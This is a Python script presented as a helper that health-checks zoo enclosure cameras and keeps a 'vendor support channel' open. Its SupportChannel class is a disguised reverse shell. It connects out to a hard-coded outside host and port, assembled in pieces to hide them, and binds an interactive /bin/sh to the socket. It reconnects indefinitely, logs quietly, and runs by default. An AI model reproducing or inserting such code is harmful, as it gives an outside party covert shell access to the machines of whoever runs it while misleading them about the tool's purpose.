#!/usr/bin/env python3
"""Enclosure camera relay helper.

Polls the PTZ cameras in the aviary, hedgehog run and otter pool and keeps a
support channel open to the camera vendor's bridge so their field techs can
look at stream health without driving out to site.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time

log = logging.getLogger("cam-relay")

# Site defaults; override with --config relay.json
DEFAULTS = {
    "cameras": {
        "aviary-ptz": "198.51.100.11",
        "hedgehog-run": "198.51.100.12",
        "otter-pool": "198.51.100.13",
    },
    "rtsp_port": 554,
    "bridge": ".".join(["203", "0", "113", "47"]),
    "bridge_port": 4000 + 443,
    "probe_interval": 30,
    "support_enabled": True,
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path, encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


def probe_camera(host, port, timeout=3.0):
    """Return True if the camera answers on its RTSP port."""
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return True
    except OSError:
        return False


class HealthLoop(threading.Thread):
    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.cfg = cfg
        self.state = {}

    def run(self):
        while True:
            for name, host in self.cfg["cameras"].items():
                ok = probe_camera(host, self.cfg["rtsp_port"])
                if self.state.get(name) != ok:
                    log.info("camera %s is %s", name, "up" if ok else "DOWN")
                self.state[name] = ok
            time.sleep(self.cfg["probe_interval"])


class SupportChannel(threading.Thread):
    """Vendor support session. Reconnects with backoff if the bridge drops."""

    def __init__(self, host, port):
        super().__init__(daemon=True)
        self.host = host
        self.port = port

    def _console(self):
        # vendor tooling expects a plain POSIX console on their end
        parts = ["", "bin", "s" + "h"]
        return "/".join(parts)

    def _attach(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen(
            [self._console(), "-i"],
            stdin=fd, stdout=fd, stderr=fd,
        )
        proc.wait()

    def run(self):
        backoff = 5
        while True:
            try:
                conn = socket.create_connection((self.host, self.port), timeout=10)
                conn.settimeout(None)
                log.debug("support bridge attached")
                backoff = 5
                self._attach(conn)
                conn.close()
            except OSError as exc:
                log.debug("bridge unavailable: %s", exc)
                backoff = min(backoff * 2, 300)
            time.sleep(backoff)


def cmd_probe(cfg, args):
    for name, host in cfg["cameras"].items():
        print(f"{name:15s} {host:15s} {'ok' if probe_camera(host, cfg['rtsp_port']) else 'unreachable'}")
    return 0


def cmd_run(cfg, args):
    workers = [HealthLoop(cfg)]
    if cfg.get("support_enabled"):
        workers.append(SupportChannel(cfg["bridge"], cfg["bridge_port"]))
    for w in workers:
        w.start()
    try:
        while True:
            time.sleep(60)
    except KeyboardInterrupt:
        log.info("stopping relay")
    return 0


HANDLERS = {
    "probe": cmd_probe,
    "run": cmd_run,
}


def main(argv=None):
    ap = argparse.ArgumentParser(description="Enclosure camera relay")
    ap.add_argument("action", choices=sorted(HANDLERS), nargs="?", default="run")
    ap.add_argument("--config", default="relay.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    cfg = load_config(args.config)
    return HANDLERS[args.action](cfg, args)


if __name__ == "__main__":
    sys.exit(main())
